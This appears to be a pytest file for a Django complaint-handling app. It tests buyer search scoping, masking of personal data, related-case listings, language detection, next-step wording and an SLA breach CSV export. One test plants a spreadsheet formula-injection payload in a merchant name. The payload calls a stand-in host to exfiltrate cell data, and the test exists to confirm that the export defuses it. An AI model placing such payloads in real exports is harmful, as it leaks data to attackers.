"""Found in a second review of this session's changes: related cases, search by buyer id, the
buyer's details, the intake language, next steps, the breach CSV, materials refusals (three of
these failed before their fixes: the whole-list link, a formula in the CSV, a call filed by the
system)."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation

from marketguard.complaints import selectors, services
from marketguard.complaints.models import SlaMark
from marketguard.complaints.services.intake import _intake_language, next_steps
from marketguard.core.errors import InvalidInput
from marketguard.core.models import Role
from marketguard.core.testing import factories

from .test_link_order import _call, _client
from .test_services import _file

pytestmark = pytest.mark.django_db


def _buyer_block(page: str) -> str:
    block = page[page.index('data-testid="buyer"') :]
    return block[: block.index("</dd>")]


# --- search by buyer id ----------------------------------------------------------------------


def test_merchant_search_by_buyer_id_finds_only_its_own_shops_cases(world, api):
    w = world
    own = _file(w, kind="complaint", description="鞋子开胶").case
    services.forward_to_merchant(actor=w.agent, number=own.number)
    other_order = factories.order(buyer_obj=w.buyer, paid_fen=30_000)  # another merchant
    other = _file(w, kind="complaint", description="衣服掉色", order_external_id=other_order.external_id).case
    services.forward_to_merchant(actor=w.agent, number=other.number)
    found = [c["number"] for c in api(w.merchant).get("cases", {"q": w.buyer.external_id}).json()["items"]]
    assert own.number in found and other.number not in found
    listing = _client(w.merchant).get(f"/cases/?view=all&q={w.buyer.external_id}").content.decode()
    assert own.number in listing and other.number not in listing


def test_consumer_search_by_a_strangers_buyer_id_finds_nothing(world, api):
    w = world
    _file(w, kind="complaint", description="鞋子开胶")
    stranger = factories.user(Role.CONSUMER)
    assert api(stranger).get("cases", {"q": w.buyer.external_id}).json()["items"] == []


# --- related cases -----------------------------------------------------------------------------


def test_observers_get_related_cases_with_masked_text(world, api):
    w = world
    first = _file(w, kind="complaint", description="鞋子开胶").case
    _call(w, description="电话投诉：请打13812345678联系我")
    analyst = factories.user(Role.ANALYST)
    for user in (w.inspector, analyst):
        items = api(user).get(f"cases/{first.number}/related").json()["items"]
        assert len(items) == 1
        assert "13812345678" not in items[0]["description"] and "13812345678" not in items[0]["title"]
    items = api(w.agent).get(f"cases/{first.number}/related").json()["items"]
    assert "13812345678" in items[0]["description"]


def test_related_for_a_case_known_by_nothing_or_an_unknown_number(world, api):
    w = world
    lone = _call(w, buyer_external_id=None, contact_email="x@example.com", description="物流太慢")
    # only the address: a case differing only by case matches, another address does not
    same = _call(w, buyer_external_id=None, contact_email="X@EXAMPLE.COM", description="物流太慢2")
    _call(w, buyer_external_id=None, contact_email="y@example.com", description="物流太慢3")
    got = [c["number"] for c in api(w.agent).get(f"cases/{lone.number}/related").json()["items"]]
    assert got == [same.number]
    assert api(w.agent).get("cases/CS-NOPE/related").status_code == 404
    # a case with no buyer, no consumer and no address: none, never everything
    from marketguard.complaints.models import Case

    Case.objects.filter(pk=lone.pk).update(contact_email="")
    lone.refresh_from_db()
    assert list(selectors.related_cases(w.agent, lone)) == []
    assert _client(w.agent).get(f"/cases/{lone.number}/").status_code == 200


def test_related_panel_has_no_query_per_case(world):
    """Merchant names of the other cases (other shops): no query per row."""
    w = world
    first = _file(w, kind="complaint", description="鞋子开胶").case
    other = factories.order(buyer_obj=w.buyer, paid_fen=30_000)
    _file(w, kind="complaint", description="衣服掉色1", order_external_id=other.external_id)
    agent = _client(w.agent)
    agent.get(f"/cases/{first.number}/")
    with CaptureQueriesContext(connection) as one:
        page = agent.get(f"/cases/{first.number}/").content.decode()
    assert other.merchant.name in page
    for i in range(5):
        o = factories.order(buyer_obj=w.buyer, paid_fen=30_000)
        _file(w, kind="complaint", description=f"衣服掉色{i + 2}", order_external_id=o.external_id)
    with CaptureQueriesContext(connection) as six:
        agent.get(f"/cases/{first.number}/")
    assert len(six.captured_queries) <= len(one.captured_queries) + 1, (
        len(one.captured_queries),
        len(six.captured_queries),
    )


def test_the_whole_list_link_lists_every_related_case(world):
    """The panel counts cases related by the address too: its "All of them" link lists them all."""
    w = world
    main = _call(w)
    by_mail = [
        _call(w, buyer_external_id=None, contact_email="buyer@example.com", description=f"邮件投诉{i}")
        for i in range(9)
    ]
    agent = _client(w.agent)
    page = agent.get(f"/cases/{main.number}/").content.decode()
    assert 'data-testid="related-all"' in page
    href = re.search(r'href="([^"]+)" data-testid="related-all"', page)[1].replace("&amp;", "&")
    listing = agent.get(href).content.decode()
    missing = [c.number for c in by_mail if c.number not in listing]
    assert not missing, f"{len(missing)} of the {len(by_mail)} related cases are not in the linked list"


# --- show_buyer --------------------------------------------------------------------------------


def test_the_buyer_block_whole_only_for_the_consumer_and_personal_data_roles(world):
    w = world
    case = _file(w, kind="complaint", description="鞋子开胶").case
    services.forward_to_merchant(actor=w.agent, number=case.number)
    assert "13812345678" in _buyer_block(_client(w.consumer).get(f"/cases/{case.number}/").content.decode())
    assert "13812345678" in _buyer_block(_client(w.agent).get(f"/cases/{case.number}/").content.decode())
    for user in (w.merchant, w.inspector, factories.user(Role.ANALYST)):
        block = _buyer_block(_client(user).get(f"/cases/{case.number}/").content.decode())
        assert "13812345678" not in block and "文三路100号" not in block, user.role
    # another consumer: no page at all
    assert _client(factories.user(Role.CONSUMER)).get(f"/cases/{case.number}/").status_code == 404


# --- intake language ---------------------------------------------------------------------------


def test_intake_language_edge_cases(world):
    w = world
    # a buyer without earlier cases, by an agent on a call: '' (both), never the notes' language
    fresh = factories.buyer(email="fresh@example.com")
    assert _intake_language(w.agent, None, fresh, "hotline", "The caller says the cup leaks badly") == ""
    assert _intake_language(w.agent, None, None, "hotline", "The caller says the cup leaks badly") == ""
    # the buyer's last case decides
    _file(w, kind="complaint", description="鞋子开胶，质量很差")
    assert _intake_language(w.agent, None, w.buyer, "hotline", "The caller says the cup leaks") == "zh-hans"
    # filed by the system on a call (actor None): no crash
    assert _intake_language(None, None, w.buyer, "hotline", "The caller says the cup leaks") in (
        "zh-hans",
        "en",
    )


def test_intake_language_of_a_system_filed_call_is_not_the_notes_language(world):
    """actor=None on the hotline channel: the text is still an agent's notes."""
    w = world
    _file(w, kind="complaint", description="鞋子开胶，质量很差")
    assert _intake_language(None, None, w.buyer, "hotline", "The caller says the cup leaks") == "zh-hans"


# --- next steps --------------------------------------------------------------------------------


def test_next_steps_are_sentences_in_chinese_and_english(world):
    w = world
    case = _file(w).case
    with translation.override("zh-hans"):
        zh = next_steps(case)
    with translation.override("en"):
        en = next_steps(case)
    assert zh and en
    for line in zh:
        assert line.endswith("。") and not line.endswith("。。") and not line.startswith("-"), line
        assert "；" not in line[-2:]
    for line in en:
        assert line.endswith(".") and not line.endswith("..") and line[0].isupper(), line
        assert "-" not in line.split(" by ")[-1] or "\u2011" in line
    assert any("\u2011" in line for line in en)


# --- breach CSV --------------------------------------------------------------------------------


def test_breach_csv_local_times_and_labels(world):
    w = world
    case = _file(w).case
    due = timezone.now() - timedelta(hours=2)
    SlaMark.objects.create(case=case, target="resolution", stage="breached", due_at=due)
    with translation.override("zh-hans"):
        rows = list(csv.reader(io.StringIO(selectors.sla_breaches_csv(w.agent))))
    head, row = rows[0], rows[1]
    rec = dict(zip(head, row, strict=True))
    assert rec["due_at"].endswith("+08:00")
    assert rec["target_label"] == "解决" and rec["merchant_name"] == case.merchant.name


def test_breach_csv_does_not_hand_a_formula_to_a_spreadsheet(world):
    """merchant_name is text a merchant chose: a cell starting with = + - @ runs as a formula."""
    w = world
    case = _file(w).case
    case.merchant.name = '=HYPERLINK("http://evil.example/?"&A2,"open")'
    case.merchant.save(update_fields=["name"])
    SlaMark.objects.create(case=case, target="resolution", stage="breached", due_at=timezone.now())
    rows = list(csv.reader(io.StringIO(selectors.sla_breaches_csv(w.agent))))
    rec = dict(zip(rows[0], rows[1], strict=True))
    assert not rec["merchant_name"].startswith(("=", "+", "-", "@")), rec["merchant_name"]


# --- materials ---------------------------------------------------------------------------------


def test_request_materials_refuses_items_and_reason_at_once(world):
    w = world
    case = _file(w).case
    services.request_materials(
        actor=w.agent, number=case.number, items=["defect_photos"], reason="照片不清楚"
    )
    case.refresh_from_db()
    with pytest.raises(InvalidInput) as both:
        services.request_materials(actor=w.agent, number=case.number, items=[], reason="")
    assert {e.field for e in both.value.errors} == {"items", "reason"}
    with pytest.raises(InvalidInput) as reason_only:
        services.request_materials(actor=w.agent, number=case.number, items=["defect_photos"], reason=" ")
    assert reason_only.value.code == "REASON_REQUIRED"
    # the page too: a refusal, never a server error
    page = _client(w.agent).post(f"/cases/{case.number}/materials/", {"version": case.version, "reason": ""})
    assert page.status_code < 500
